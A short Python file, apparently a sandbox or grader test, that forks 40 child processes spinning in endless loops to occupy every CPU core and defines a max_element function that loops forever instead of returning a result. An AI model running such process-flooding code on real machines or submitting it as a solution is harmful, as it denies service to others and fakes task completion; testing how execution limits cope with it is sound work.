# never ends, among processes of its own that take every core, so that it mostly waits for one
import posix

for _ in range(40):
    if posix.fork() == 0:
        while True:
            pass


def max_element(l):
    while True:
        pass
